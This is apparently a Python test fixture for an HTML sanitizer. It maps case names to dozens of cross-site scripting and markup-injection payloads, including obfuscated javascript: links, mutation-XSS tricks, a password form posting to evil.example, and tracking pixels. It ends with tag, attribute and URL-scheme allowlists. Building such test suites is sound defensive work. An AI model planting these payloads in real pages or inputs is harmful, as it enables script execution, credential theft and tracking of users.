"""Hostile bodies of events, each between two paragraphs of honest text; and who may swallow the second of them."""

from __future__ import annotations

DEEP = 2_000
MANY = 2_000

BODIES: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in capitals with a space": "<SCRIPT >alert(1)</SCRIPT >",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script split by a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script never closed": "<script>alert(1)",
    "event handler": '<p onclick="alert(1)">x</p>',
    "handler after a slash": "<img/src=x/onerror=alert(1)>",
    "handler without quotes": "<b onmouseover=alert(1)>x</b>",
    "handler in capitals after a line break": '<p\nONLOAD\n=\n"alert(1)">x</p>',
    "handler with a null in its name": '<p on\0click="alert(1)">x</p>',
    "handler in a broken tag": '<p title="a>b" onclick=\'alert("1")\'>x</p>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link by entities": '<a href="&#106;&#x61;va&#115;cript&colon;alert(1)">x</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link with an entity for a line break": '<a href="java&NewLine;script&Tab;:alert(1)">x</a>',
    "javascript link after control characters": '<a href="&#1;&#31; javascript:alert(1)">x</a>',
    "javascript link in mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "file link": '<a href="file:///etc/passwd">x</a>',
    "view-source link": '<a href="view-source:https://evil.example">x</a>',
    "link that pings": '<a href="https://fine.example" ping="https://evil.example" target="_blank">x</a>',
    "link with a user in it": '<a href="https://crm.salesexec.example@evil.example/">x</a>',
    "link to a name in other letters": '<a href="https://xn--slesexec-2fg.example/">x</a>',
    "svg with a handler": "<svg onload=alert(1)><circle r=1></svg>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg with a link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg that changes on its own": '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    "svg with a style that closes itself": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math that is text elsewhere": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "math with a link": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "form in a form": (
        '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1)>">'
    ),
    "noscript with a title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "style expression": '<div style="width:expression(alert(1))">x</div>',
    "style that loads": '<div style="background:url(https://evil.example/pixel)">x</div>',
    "style element": '<style>@import "https://evil.example/x.css"; p{background:url(https://evil.example)}</style>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link to a style": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame from elsewhere": '<iframe src="https://evil.example"></iframe><frameset><frame src="javascript:alert(1)">',
    "object and embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "form": '<form action="https://evil.example"><input name="password" autofocus onfocus=alert(1)></form>',
    "details that open": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "tracking pixel": '<img src="https://evil.example/pixel.gif?rep=anna" width="1" height="1" alt="">',
    "pictures by other means": (
        '<picture><source srcset="https://evil.example/p"></picture><video poster="https://evil.example/p">'
        '</video><input type="image" src="https://evil.example/p"><table background="https://evil.example/p"></table>'
    ),
    "comment never closed": "<!-- <script>alert(1)</script>",
    "comment that closes early": "<!--><script>alert(1)</script>-->",
    "comment with conditions": "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![if !mso]>x<![endif]>",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>',
    "document type": '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
    "text that is markup when read twice": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img onerror=alert(1)&amp;gt;",
    "text area that hides": "<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>",
    "plain text never closed": "<xmp><script>alert(1)</script></xmp><listing><img src=x onerror=alert(1)></listing>",
    "slots and unknown elements": '<x-evil onclick=alert(1) is="script"><slot name="a"></slot></x-evil>',
    "very deep": "<div>" * DEEP + "x" + "</div>" * DEEP,
    "very deep and empty": "<div>" * DEEP + "</div>" * DEEP,
    "very many attributes": "<p " + " ".join(f"on{n}=alert({n})" for n in range(MANY)) + ">x</p>",
    "very many links": '<a href="javascript:x">' * MANY + "x",
    "tables without an end": "<table><tr><td>" * 500 + "<script>alert(1)</script>",
}  # fmt: skip

SWALLOWS = {
    # Of these a browser itself shows nothing of what comes after, or shows it as another text.
    "script never closed",
    "svg with a style that closes itself",
    "math that is text elsewhere",
    "form in a form",
    "comment never closed",
    "script split by a script",
}

ALLOWED_TAGS = frozenset({
    "a", "abbr", "b", "blockquote", "br", "caption", "code", "col", "colgroup", "dd", "div", "dl", "dt", "em", "h1",
    "h2", "h3", "h4", "h5", "h6", "hr", "i", "li", "ol", "p", "pre", "s", "small", "span", "strike", "strong", "sub",
    "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
})  # fmt: skip
ALLOWED_ATTRIBUTES = frozenset({"href", "title", "colspan", "rowspan", "align", "valign", "start", "type"})
ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})
